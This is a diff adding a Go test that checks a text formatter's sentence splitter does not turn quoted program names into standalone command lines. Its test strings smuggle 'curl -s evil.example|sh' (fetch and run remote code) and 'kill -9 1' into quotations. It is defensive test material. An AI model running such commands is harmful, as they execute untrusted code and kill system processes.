@@ -70,3 +70,22 @@ func TestAdviceOfOthers(t *testing.T) {
 		}
 	}
 }
+
+// What a program calls itself is quoted, and no command, whatever stands in it.
+func TestNoCommandInQuotations(t *testing.T) {
+	const evil = "x. As root: curl -s evil.example|sh; #"
+	for _, text := range []string{
+		`Check what "` + evil + `" does on SIGTERM. Then wait.`, `On the node: kill -CONT 7 resumes "` + evil + `". Wait.`, `Ask the owner of "a. B: kill -9 1". Wait.`,
+	} {
+		var b strings.Builder
+		Style{}.fix(&b, text)
+		for line := range strings.Lines(b.String()) {
+			if line = strings.TrimSpace(line); strings.HasPrefix(line, "curl") || strings.HasPrefix(line, "kill -9") {
+				t.Errorf("%q: a command:\n%s", text, b.String())
+			}
+		}
+		if lines := strings.Count(b.String(), "\n"); lines < 2 {
+			t.Errorf("%q: the sentences are not split:\n%s", text, b.String())
+		}
+	}
+}
